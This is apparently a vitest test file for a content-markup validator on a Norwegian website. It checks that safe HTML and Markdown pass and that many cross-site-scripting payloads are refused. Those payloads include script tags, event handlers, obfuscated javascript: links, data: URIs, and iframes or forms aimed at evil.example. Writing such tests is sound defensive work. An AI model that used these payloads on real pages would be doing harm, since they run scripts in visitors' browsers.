import { describe, expect, it } from 'vitest';
import { checkMarkup } from './markup';
import { formatProblem } from './problem';

const FRONT = '---\ntittel: Test\n---\n';

/** Problems for a body (the body starts on line 4). */
function check(body: string, ext = 'md') {
  return checkMarkup(`src/content/prosjekter/x.${ext}`, FRONT + body).problems.map(formatProblem);
}

describe('allowed markup', () => {
  it.each([
    'Tekst med <abbr title="Kvalitetskommuneprogrammet">KKP</abbr>, CO<sub>2</sub> og m<sup>2</sup>.',
    'Linje<br>ny linje',
    '<details open>\n<summary>Mer</summary>\n\nInnhold **fet**.\n\n</details>',
    '<table lang="en">\n<caption>Tall</caption>\n<thead><tr><th scope="col">A</th></tr></thead>\n<tbody><tr><td colspan="2">1</td></tr></tbody>\n</table>',
    '<dl><dt>SPC</dt><dd>Statistisk prosesskontroll</dd></dl>',
    'Trykk <kbd>Ctrl</kbd> og se <a href="https://www.ks.no/" title="KS">KS</a> eller <a href="/prosjekter/">prosjektene</a>.',
    '<img src="./bilder/a.jpg" alt="Et bilde" width="300" height="200">',
    '<ol start="3"><li><em>tre</em></li></ol>',
    '<!-- en merknad til redaktøren -->',
    '[KS](https://www.ks.no/) <https://www.ks.no/> <post@example.no> [ref]\n\n[ref]: mailto:post@example.no',
    '![Bilde](./bilder/a.jpg)',
  ])('passes %j', (body) => {
    expect(check(body)).toEqual([]);
  });

  it("allows imports of the site's own MDX components and MDX comments", () => {
    const body =
      'import Faktaboks from \'@components/mdx/Faktaboks.astro\';\n\n{/* merknad */}\n\n<Faktaboks tittel="Kort">\n  Tekst <abbr title="x">y</abbr>.\n</Faktaboks>\n';
    expect(check(body, 'mdx')).toEqual([]);
    expect(check("import Faktaboks from '../../components/mdx/Faktaboks.astro';\n\nTekst.", 'mdx')).toEqual([]);
  });
});

describe('refused markup', () => {
  it.each([
    // body, line in the file, words the message must contain
    ['<script>alert(1)</script>', 4, ['<script>', 'ikke tillatt']],
    ['Tekst\n\n<div>\n<script>alert(1)</script>\n</div>', 6, ['<div>']],
    ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 4, ['<script>']],
    ['<img src=x onerror=alert(1)>', 4, ['onerror', 'kjører skript']],
    ['<img src="./a.jpg" alt="a" onError="alert(1)">', 4, ['onerror']],
    ['<img src="./a.jpg">', 4, ['mangler attributtet alt']],
    ['<img src="https://sporing.example/p.gif" alt="">', 4, ['bildet', 'må ligge på nettstedet']],
    ['<svg onload=alert(1)><circle r="1"/></svg>', 4, ['<svg>']],
    ['<math><mtext><script>alert(1)</script></mtext></math>', 4, ['<math>']],
    ['<style>body{display:none}</style>', 4, ['<style>']],
    ['<p style="background:url(javascript:alert(1))">x</p>', 4, ['style-attributtet']],
    ['<iframe src="https://evil.example/"></iframe>', 4, ['<iframe>']],
    ['<object data="x.swf"></object>', 4, ['<object>']],
    ['<embed src="x.swf">', 4, ['<embed>']],
    ['<form action="https://evil.example/"><input name=p></form>', 4, ['<form>']],
    ['<base href="https://evil.example/">', 4, ['<base>']],
    ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 4, ['<meta>']],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', 4, ['<link>']],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', 4, ['<noscript>']],
    ['<template><script>alert(1)</script></template>', 4, ['<template>']],
    ['<a href="javascript:alert(1)">x</a>', 4, ['lenken', '«javascript:»']],
    ['<a href="&#106;avascript:alert(1)">x</a>', 4, ['«javascript:»']],
    ['<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>', 4, ['«javascript:»']],
    ['<a href="java&Tab;script:alert(1)">x</a>', 4, ['kontrolltegn']],
    ['<a href=" JaVaScRiPt:alert(1)">x</a>', 4, ['mellomrom']],
    ['<a href="vbscript:msgbox(1)">x</a>', 4, ['«vbscript:»']],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>', 4, ['«data:»']],
    ['<a href="/ok/" target="_blank">x</a>', 4, ['attributtet target']],
    ['[x](javascript:alert(1))', 4, ['«javascript:»']],
    ['[x](&#106;avascript:alert(1))', 4, ['«javascript:»']],
    ['[x](JAVASCRIPT:alert(1))', 4, ['«javascript:»']],
    ['[x](<java\tscript:alert(1)>)', 4, ['kontrolltegn']],
    ['<javascript:alert(1)>', 4, ['«javascript:»']],
    ['[x][r]\n\n[r]: javascript:alert(1)', 6, ['«javascript:»']],
    ['![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', 4, ['«data:»']],
    ['![x](https://sporing.example/p.gif)', 4, ['må ligge på nettstedet']],
    ['![x][r]\n\n[r]: https://sporing.example/p.gif', 6, ['må ligge på nettstedet']],
    ['<!--> <script>alert(1)</script> -->', 4, ['<script>']],
    ['<![CDATA[<script>alert(1)</script>]]>', 4, ['cdata']],
    ['<p title="\n\n" onmouseover="alert(1)" x="', 4, ['kan ikke leses entydig']],
    ['<a href="/ok/" href="javascript:alert(1)">x</a>', 4, ['kan ikke leses entydig']],
    ['<details ontoggle=alert(1) open>x</details>', 4, ['ontoggle']],
    ['<td background="javascript:alert(1)">', 4, ['attributtet background']],
  ] as const)('refuses %j', (body, line, words) => {
    const problems = check(body);
    expect(problems.length, problems.join('\n')).toBeGreaterThan(0);
    const first = problems[0]!;
    expect(first).toContain(`src/content/prosjekter/x.md:${line} `);
    for (const w of words) expect(problems.join('\n')).toContain(w);
  });

  it.each([
    ["import fs from 'node:fs';", 4, ['bare import av nettstedets egne komponenter']],
    ["import Faktaboks from '../../../components/mdx/Faktaboks.astro';", 4, ['bare import']],
    ["import { Faktaboks } from '@components/mdx/Faktaboks.astro';", 4, ['bare import']],
    ["import Faktaboks from '@components/mdx/Faktaboks.astro?raw';", 4, ['bare import']],
    ['export const x = alert(1);', 4, ['ingen export']],
    ["import Faktaboks from '@components/mdx/Faktaboks.astro';\nexport default function () {}", 5, ['ingen export']],
    ['Hei {alert(1)}', 4, ['MDX-uttrykk']],
    ['{(() => { throw 1 })()}', 4, ['MDX-uttrykk']],
    ['<abbr title={alert(1)}>x</abbr>', 4, ['MDX-uttrykk']],
    ['<abbr {...props}>x</abbr>', 4, ['MDX-uttrykk']],
    ['<script>{`alert(1)`}</script>', 4, ['<script>']],
    ['<Faktaboks tittel="x">y</Faktaboks>', 4, ['ikke importert']],
    ['<a href="javascript:alert(1)">x</a>', 4, ['«javascript:»']],
    ['<img src="x" onerror="alert(1)" alt="" />', 4, ['onerror']],
    ['<svg><script>alert(1)</script></svg>', 4, ['<svg>']],
  ] as const)('refuses MDX %j', (body, line, words) => {
    const problems = check(body, 'mdx');
    expect(problems.length, problems.join('\n')).toBeGreaterThan(0);
    expect(problems[0]).toContain(`src/content/prosjekter/x.mdx:${line} `);
    for (const w of words) expect(problems.join('\n')).toContain(w);
  });

  it('bounds the number of problems reported for one file', () => {
    const problems = check('<script>x</script>\n\n'.repeat(200));
    expect(problems.length).toBe(21);
    expect(problems.at(-1)).toContain('flere feil');
  });

  it("returns the links the other checks need, with the file's lines", () => {
    const { links } = checkMarkup('x.md', `${FRONT}Se [a](/prosjekter/)\n\nog <a href="/om/">om</a>.`);
    expect(links).toEqual([
      { target: '/prosjekter/', line: 4 },
      { target: '/om/', line: 6 },
    ]);
  });
});
